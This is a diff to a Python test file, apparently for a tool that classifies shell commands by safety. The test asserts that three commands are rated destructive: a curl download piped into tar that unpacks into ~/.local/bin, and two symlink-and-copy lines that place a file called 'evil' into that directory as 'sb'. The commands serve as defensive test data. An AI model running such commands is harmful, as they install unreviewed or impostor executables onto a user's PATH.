@@ -253,8 +253,13 @@ def test_an_sb_among_other_files_does_not_get_where_it_would_be_found(
 def test_what_is_not_known_waits_where_an_sb_would_be_found(
     around: Surroundings, isolated: Installed
 ) -> None:
-    line_ = "curl -L https://e/x.tgz | tar xz -C ~/.local/bin"
-    assert line(line_, around, isolated).safety_class.value == "destructive"
+    (isolated.user / ".local" / "bin").mkdir(parents=True, exist_ok=True)
+    for command in (
+        "curl -L https://e/x.tgz | tar xz -C ~/.local/bin",
+        "ln -s ~/.local/bin b && cp evil b/sb",
+        "ln -s ~/.local/bin; cp evil bin/sb",
+    ):
+        assert line(command, around, isolated).safety_class.value == "destructive", command
 
 
 def test_work_in_the_folder_of_its_packages_waits_for_a_person(
